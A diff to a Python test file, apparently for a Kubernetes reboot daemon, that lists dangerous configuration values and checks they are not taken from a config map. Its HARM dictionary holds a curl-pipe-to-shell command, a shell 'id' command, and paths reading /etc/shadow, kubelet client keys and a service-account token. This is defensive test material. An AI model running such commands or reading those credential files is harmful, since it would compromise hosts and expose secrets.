@@ -18,6 +18,7 @@ NAME = "careen/careen"
 # What each would do if it were taken.
 HARM: dict[str, str] = {
     "reboot_probes": "zypper",  # runs what the host has under that name
+    "reboot_proof": "soft-reboots",
     "reboot_sentinel_command": "sh -c 'curl https://x | sh'",
     "reboot_command": "/bin/sh -c id",
     "host_exec": "direct",
@@ -30,6 +31,8 @@ HARM: dict[str, str] = {
     "prometheus_ca_file": "/tmp/mine",
     "prometheus_client_certificate_file": "/proc/1/root/var/lib/kubelet/pki/kubelet-client-current.pem",
     "prometheus_client_key_file": "/proc/1/root/etc/shadow",
+    "alertmanager_token_file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
+    "alertmanager_ca_file": "/tmp/mine",
     "scheduler_config": "/proc/1/root/etc/shadow",
 }
 # What goes with some of them, so that they contradict nothing.
@@ -40,7 +43,8 @@ BESIDE = {
 
 
 def flags_for(name: str, **more: str) -> dict[str, tuple[str, ...]]:
-    url = {"prometheus_url": ("https://p",)} if name.startswith("prometheus") else {}
+    server = name.partition("_")[0]
+    url = {f"{server}_url": ("https://p",)} if server in ("prometheus", "alertmanager") else {}
     return {"node_id": ("n1",), **url, **BESIDE.get(name, {}), **{key: (value,) for key, value in more.items()}}
 
 
@@ -58,6 +62,7 @@ def test_these_settings_and_no_others_are_kept_from_the_config_map() -> None:
         "reboot_sentinel_command",
         "reboot_command",
         "reboot_probes",
+        "reboot_proof",
         "host_exec",
         "reboot_signal",
     }
